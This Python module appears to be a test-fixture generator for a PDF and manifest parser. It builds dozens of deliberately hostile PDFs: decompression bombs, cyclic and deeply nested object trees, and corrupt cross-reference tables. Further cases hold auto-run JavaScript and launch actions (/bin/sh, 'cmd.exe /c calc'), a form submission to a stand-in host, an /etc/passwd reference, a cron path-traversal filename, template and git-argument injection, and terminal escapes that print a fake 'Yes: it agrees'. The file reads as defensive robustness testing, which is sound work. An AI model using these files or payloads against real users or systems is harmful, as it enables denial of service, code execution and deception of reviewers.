"""PDFs that are meant to harm whoever opens them, made byte by byte: each a few megabytes at most."""

from __future__ import annotations

import json
import zlib
from collections.abc import Callable, Mapping
from typing import Any, Final

DEEP: Final = 100_000
ONE_PAGE: Final = {
    1: b"<</Type/Catalog/Pages 2 0 R>>",
    2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
}
LABEL: Final[Mapping[str, Any]] = {
    "practice": "test-practice",
    "year": 2026,
    "options": {"paper": "letter", "tokens": False},
    "embedded": [],
}


def stream(data: bytes, more: bytes = b"", length: bytes | None = None) -> bytes:
    """A stream's object; `length` where it is to lie."""
    said = length if length is not None else str(len(data)).encode()
    return b"<<%s/Length %s>>stream\n%s\nendstream" % (more, said, data)


def packed(data: bytes, times: int = 1) -> bytes:
    """A stream's object, deflated so many times."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter[%s]" % (b"/FlateDecode" * times))


def document(
    objects: Mapping[int, bytes], trailer: bytes = b"", *, start: int | None = None, head: bytes = b"%PDF-1.7\n"
) -> bytes:
    """A file of these objects with a table of where they are; `start` where that of the table is to lie."""
    out, places = bytearray(head), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer,
        table if start is None else start,
    )
    return bytes(out)


def catalog(more: bytes, **others: bytes) -> dict[int, bytes]:
    """The objects of one page whose catalog holds more, and others by `o7=…`."""
    return {**ONE_PAGE, 1: b"<</Type/Catalog/Pages 2 0 R%s>>" % more} | {int(k[1:]): v for k, v in others.items()}


def carrying(files: Mapping[bytes, bytes], *, spec: Callable[[bytes], bytes] = packed) -> bytes:
    """One page that embeds files, each under the string that is its name in the file's own notation."""
    objects, names = dict(ONE_PAGE), b""
    for number, (name, data) in enumerate(files.items()):
        place = 10 + 2 * number
        objects[place] = b"<</Type/Filespec/F %s/UF %s/EF<</F %d 0 R>>>>" % (name, name, place + 1)
        objects[place + 1] = spec(data)
        names += b"%s %d 0 R " % (name, place)
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[%s]>>>>>>" % names
    return document(objects)


def saying(label: object, **files: bytes) -> bytes:
    """A pack that says this of itself."""
    said = label if isinstance(label, bytes) else json.dumps(label).encode()
    return carrying({b"(manifest.json)": said, **{b"(%s)" % name.encode(): data for name, data in files.items()}})


def _xref_stream(previous: bytes) -> bytes:
    """A file whose table is a stream that names another, or itself, as the one before it."""
    body = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, text in ONE_PAGE.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    at = len(body)
    rows = b"".join(b"\x01" + places.get(n, at).to_bytes(4, "big") + b"\x00" for n in range(5))
    head = b"/Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Prev %s" % previous.replace(b"HERE", str(at).encode())
    return bytes(body + b"4 0 obj\n" + stream(rows, head) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at)


def _object_stream(content: bytes, more: bytes, count: int = 1) -> bytes:
    """A file whose catalog lies in an object stream of this content."""
    body = bytearray(b"%PDF-1.7\n")
    holder = len(body)
    body += b"5 0 obj\n" + stream(zlib.compress(content, 9), b"/Type/ObjStm/Filter/FlateDecode/N %d%s" % (count, more))
    body += b"\nendobj\n"
    at = len(body)
    rows = b"\x00\x00\x00\x00\x00\x00" + b"".join(b"\x02\x00\x00\x00\x05" + bytes([n]) for n in range(4))
    rows += b"\x01" + holder.to_bytes(4, "big") + b"\x00" + b"\x01" + at.to_bytes(4, "big") + b"\x00"
    body += b"6 0 obj\n" + stream(rows, b"/Type/XRef/Size 7/W[1 4 1]/Root 1 0 R") + b"\nendobj\n"
    return bytes(body + b"startxref\n%d\n%%%%EOF\n" % at)


def _chain(open_: bytes, close: bytes) -> bytes:
    return document(catalog(b"/Deep " + open_ * DEEP + close * DEEP))


def _deep_pages() -> bytes:
    objects = {1: ONE_PAGE[1]}
    for number in range(2, 50_000):
        objects[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1)
    return document(objects | {50_000: b"<</Type/Page/MediaBox[0 0 9 9]>>"})


def _deep_names() -> bytes:
    objects = catalog(b"/Names<</EmbeddedFiles 4 0 R>>")
    for number in range(4, 40_000):
        objects[number] = b"<</Kids[%d 0 R]/Limits[(a)(b)]>>" % (number + 1)
    return document(objects | {40_000: b"<</Names[]>>"})


def _wide_names() -> bytes:
    """As many attachments as a megabyte of names gives, all of one file."""
    names = b"".join(b"(f%06d)4 0 R" % number for number in range(100_000))
    spec = b"<</Type/Filespec/F(a)/UF(a)/EF<</F 5 0 R>>>>"
    return document(catalog(b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % names, o4=spec, o5=stream(b"x")))


def _updates() -> bytes:
    """Thousands of changes, each naming the table before it."""
    out = bytearray(document(ONE_PAGE))
    last = out.rindex(b"xref\n0 ")
    for _ in range(20_000):
        at = len(out)
        out += b"xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (last, at)
        last = at
    return bytes(out)


def _encrypted(more: bytes) -> bytes:
    handler = b"/Filter/%s/O(%s)/U(%s)/P -4>>" % (b"Standard", b"o" * 32, b"u" * 32)
    return document(ONE_PAGE, b"/Encrypt<<%s%s/ID[(a)(a)]" % (more, handler))


def _lzw() -> bytes:
    return bytes.fromhex("800b6050220c0c85010000") * 200_000


GIGABYTE_TWICE: Final = zlib.compress(zlib.compress(bytes(1 << 28), 9), 9)
NAMES_CYCLE: Final = catalog(b"/Names<</EmbeddedFiles 4 0 R>>", o4=b"<</Kids[4 0 R]/Limits[(a)(z)]>>")
ACTION: Final = b"/OpenAction<</S/%s>>"
LONG: Final = b"9" * 1_000_000

KINDS: Final[Mapping[str, Callable[[], bytes]]] = {
    "a header and nothing else": lambda: b"%PDF-1.7\n",
    "noise behind a header": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 4000,
    "a table of places beyond the file": lambda: document(ONE_PAGE, start=10**12),
    "a table of places before the file": lambda: document(ONE_PAGE, start=-7),
    "a table that is its own predecessor": lambda: document(
        ONE_PAGE, b"/Prev %d" % (document(ONE_PAGE).rindex(b"xref\n0"))
    ),
    "a stream of places that is its own predecessor": lambda: _xref_stream(b"HERE"),
    "a predecessor at minus one": lambda: _xref_stream(b"-1"),
    "a table of 10^12 places": lambda: document(ONE_PAGE).replace(b"/Size 4", b"/Size 999999999999"),
    "twenty thousand changes": _updates,
    "pages that hold their parent": lambda: document({**ONE_PAGE, 2: b"<</Type/Pages/Kids[2 0 R 1 0 R]/Count 2>>"}),
    "a tree of pages fifty thousand deep": _deep_pages,
    "a million pages that are one": lambda: document(
        {**ONE_PAGE, 2: b"<</Type/Pages/Kids[%s]/Count 1000000>>" % (b"3 0 R " * 1_000_000)}
    ),
    "a number of pages that lies": lambda: document({**ONE_PAGE, 2: b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"}),
    "arrays in arrays": lambda: _chain(b"[", b"]"),
    "dictionaries in dictionaries": lambda: _chain(b"<</D", b">>"),
    "arrays that never close": lambda: document(catalog(b"/Deep " + b"[" * 1_000_000)),
    "an object that is itself": lambda: document(catalog(b"/Names 4 0 R", o4=b"4 0 R")),
    "two objects that are each other": lambda: document(catalog(b"/Names 4 0 R", o4=b"5 0 R", o5=b"4 0 R")),
    "a tree of names that holds itself": lambda: document(NAMES_CYCLE),
    "a tree of names forty thousand deep": _deep_names,
    "a hundred thousand attachments": _wide_names,
    "names without files": lambda: document(catalog(b"/Names<</EmbeddedFiles<</Names[(a)]>>>>")),
    "an attachment that is a number": lambda: document(catalog(b"/Names<</EmbeddedFiles<</Names[(a)7]>>>>")),
    "an attachment without a stream": lambda: document(
        catalog(b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>", o4=b"<</Type/Filespec/F(a)/EF<</F 2 0 R>>>>")
    ),
    "an attachment that unpacks to 400 MB": lambda: carrying({b"(manifest.json)": bytes(400 << 20)}),
    "an attachment packed twice": lambda: carrying(
        {b"(manifest.json)": GIGABYTE_TWICE}, spec=lambda data: stream(data, b"/Filter[/FlateDecode/FlateDecode]")
    ),
    "two hundred filters on one stream": lambda: carrying(
        {b"(manifest.json)": b"x"}, spec=lambda data: stream(data, b"/Filter[%s]" % (b"/ASCIIHexDecode" * 200))
    ),
    "an attachment in LZW without end": lambda: carrying(
        {b"(manifest.json)": _lzw()}, spec=lambda data: stream(data, b"/Filter/LZWDecode")
    ),
    "a filter of pictures": lambda: carrying(
        {b"(manifest.json)": b"\xff\xd8\xff"}, spec=lambda data: stream(data, b"/Filter/JBIG2Decode")
    ),
    "a filter that nobody knows": lambda: carrying(
        {b"(manifest.json)": b"x"}, spec=lambda data: stream(data, b"/Filter/Nobody")
    ),
    "a predictor two thousand million wide": lambda: carrying(
        {b"(manifest.json)": zlib.compress(b"x" * 999)},
        spec=lambda data: stream(data, b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647>>"),
    ),
    "objects in a stream that unpacks to 800 MB": lambda: _object_stream(b"1 0 " + b" " * (800 << 20), b"/First 4"),
    "objects in a stream that says 10^9 of them": lambda: _object_stream(b"1 0 <<>>", b"/First 4", 10**9),
    "objects in a stream that extends itself": lambda: _object_stream(b"1 0 <<>>", b"/First 4/Extends 5 0 R"),
    "objects before their stream begins": lambda: _object_stream(b"1 0 <<>>", b"/First -99999999"),
    "a stream of negative length": lambda: document(catalog(b"/Metadata 4 0 R", o4=stream(b"x", b"", b"-2147483648"))),
    "a stream whose length is itself": lambda: document(catalog(b"/Metadata 4 0 R", o4=stream(b"x", b"", b"4 0 R"))),
    "a stream longer than the file": lambda: document(catalog(b"/Metadata 4 0 R", o4=stream(b"x", b"", b"9" * 18))),
    "a page as large as the universe": lambda: document(
        {**ONE_PAGE, 3: b"<</Type/Page/Parent 2 0 R/MediaBox[-1e38 -1e38 1e38 %s]>>" % LONG}
    ),
    "a picture in a page's text that never ends": lambda: document(
        {
            **ONE_PAGE,
            3: b"<</Type/Page/Parent 2 0 R/Contents 4 0 R>>",
            4: packed(b"BI /W 1 /H 1 ID " + b"x" * 10_000_000),
        }
    ),
    "a script": lambda: document(catalog(ACTION % b"JavaScript/JS(app.launchURL('http://a.example'))")),
    "a program to start": lambda: document(catalog(ACTION % b"Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>")),
    "a form to send": lambda: document(catalog(ACTION % b"SubmitForm/F(http://a.example)")),
    "another file to read": lambda: carrying(
        {b"(manifest.json)": b"x"}, spec=lambda _: stream(b"", b"/F(/etc/passwd)")
    ),
    "a lock of an unknown maker": lambda: document(ONE_PAGE, b"/Encrypt<</Filter/Nobody.Knows/V 9/R 99>>"),
    "a lock of an impossible key": lambda: _encrypted(b"/V 2/R 3/Length 2147483640"),
    "a lock without its parts": lambda: document(ONE_PAGE, b"/Encrypt<</Filter/Standard/V 5/R 6>>/ID[()()]"),
    "a label ten thousand deep": lambda: saying(b"[" * 10_000),
    "a label whose year has a million digits": lambda: saying(b'{"year":%s}' % LONG),
    "a label whose year is without end": lambda: saying({**LABEL, "year": float("inf")}),
    "a label whose year is none": lambda: saying({**LABEL, "year": float("nan")}),
    "a label of the year 10^18": lambda: saying({**LABEL, "year": 10**18}),
    "a label of the year nought": lambda: saying({**LABEL, "year": 0}),
    "a label of a paper that is none": lambda: saying({**LABEL, "options": {"paper": ["../.."], "tokens": "{{7*7}}"}}),
    "a label of a paper without a name": lambda: saying({**LABEL, "options": {"paper": "\x1b[2J", "tokens": False}}),
    "a label of a practice that is a list": lambda: saying({**LABEL, "practice": [LABEL]}),
    "a label that paints the screen": lambda: saying({**LABEL, "practice": "\x1b]0;owned\x07\x1b[2J\nYes: it agrees"}),
    "a label whose name is a megabyte": lambda: saying({**LABEL, "practice": "x" * 1_000_000}),
    "a label that paints the screen with its name": lambda: saying(
        {**LABEL, "practice": "other", "pack": "\x1b[2J\nYes"}
    ),
    "a label of the volume minus one": lambda: saying({**LABEL, "volume": -1}),
    "a label of a volume that is none": lambda: saying({**LABEL, "volume": {"a": 1}}),
    "a label of a volume without end": lambda: saying({**LABEL, "volume": float("inf")}),
    "a label whose waivers are lists": lambda: saying({**LABEL, "waived": [[[]], {}, None]}),
    "a label whose books are a number": lambda: saying({**LABEL, "books": 7, "commit": ["--upload-pack=x"]}),
    "a label with half a letter": lambda: saying(
        b'{"practice":"\\ud800","year":2026,"options":{"paper":"letter","tokens":false},"embedded":[]}'
    ),
    "a file that leads out of its folder": lambda: saying(LABEL, **{"../../../etc/cron.d/x": b"x"}),
    "a file whose name paints the screen": lambda: carrying(
        {b"(manifest.json)": json.dumps(LABEL).encode(), b"(\\033[2J\\nYes: it agrees)": b"x"}
    ),
    "a file whose name is half a letter": lambda: carrying(
        {b"(manifest.json)": json.dumps(LABEL).encode(), b"<FEFFD800>": b"x"}
    ),
    "a table that paints the screen": lambda: saying(LABEL, **{"tie-outs.csv": b"a,b\r\n\x1b[2J\nYes,\x07\r\n"}),
    "a table of one cell of fifty megabytes": lambda: saying(LABEL, **{"tie-outs.csv": b"x" * (50 << 20)}),
}
